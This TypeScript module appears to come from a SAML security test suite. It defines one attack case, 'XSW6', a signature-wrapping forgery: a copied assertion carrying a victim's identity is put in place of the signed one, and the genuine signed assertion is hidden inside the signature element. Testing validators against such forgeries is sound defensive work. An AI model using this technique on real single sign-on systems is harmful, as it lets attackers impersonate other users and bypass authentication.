import type { SamlAttack } from '../saml-attack.ts'
import { detach, editAnswer } from '../saml-attack.ts'

export const attack: SamlAttack = {
  name: 'XSW6: a forged assertion whose signature holds the signed one',
  reason: 'wrapping',
  forge: ({ genuine, victim }) =>
    editAnswer(genuine, ({ response, assertion, signature, copyAbout }) => {
      const forged = copyAbout(assertion, victim)
      detach(signature)
      response.replaceChild(forged, assertion)
      forged.insertBefore(signature, forged.firstChild)
      signature.appendChild(assertion)
    }),
}
